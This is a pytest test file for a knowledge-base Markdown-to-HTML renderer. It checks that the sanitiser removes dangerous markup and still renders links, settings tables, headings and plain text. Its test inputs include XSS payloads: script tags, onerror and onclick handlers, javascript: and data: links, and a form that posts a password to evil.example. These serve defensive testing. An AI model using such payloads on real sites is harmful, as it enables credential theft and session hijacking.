"""Article Markdown becomes HTML a browser can display safely, whatever an author (or an import) wrote."""

import pytest

from kb.rendering import plain_text, render_markdown


@pytest.mark.parametrize(
    ("markdown", "forbidden"),
    [
        ("<script>alert(1)</script>Texte", "alert(1)"),
        ('<img src="x" onerror="alert(1)">', "onerror"),
        ("[cliquez](javascript:alert(1))", "javascript:"),
        ('<a href="javascript:alert(1)">lien</a>', "javascript:"),
        ("[donnée](data:text/html;base64,PHNjcmlwdD4=)", "data:"),
        ('<p style="position:fixed">x</p>', "style="),
        ('<iframe src="https://example.org"></iframe>', "iframe"),
        ('<a href="/" onclick="steal()">x</a>', "onclick"),
        ("<svg><script>alert(1)</script></svg>", "script"),
        ('<form action="https://evil.example"><input name="password"></form>', "<form"),
    ],
)
def test_the_sanitiser_removes_scripts_handlers_and_dangerous_links(markdown, forbidden):
    assert forbidden not in render_markdown(markdown)


def test_links_are_kept_with_a_safe_rel():
    html = render_markdown("[Le portail](https://webmail.example.fr/) et [l'aide](/aide/)")
    assert '<a href="https://webmail.example.fr/" rel="noopener noreferrer">Le portail</a>' in html
    assert '<a href="/aide/" rel="noopener noreferrer">' in html


def test_settings_tables_lists_and_code_are_rendered():
    html = render_markdown("| Paramètre | Valeur |\n|---|---|\n| Port | 993 |\n\n1. Un\n2. Deux\n\n`prenom.nom`")
    # A settings table is marked as such: the page adds its "Copy" buttons to it, and to no other table.
    assert '<table class="settings">' in html and "<th>Paramètre</th>" in html and "<td>993</td>" in html
    assert "<ol>" in html
    assert "<code>prenom.nom</code>" in html


def test_headings_are_shifted_below_the_page_title():
    html = render_markdown("# Titre\n\n## Section\n\ntexte")
    assert "<h1" not in html
    assert "<h2>Titre</h2>" in html and "<h3>Section</h3>" in html
    assert "<h2>Section</h2>" in render_markdown("## Section")


def test_plain_text_keeps_the_words_and_unescapes_entities():
    text = plain_text(render_markdown("## Étape\n\nL'**identifiant** & le mot de passe"))
    assert text == "Étape\nL'identifiant & le mot de passe"
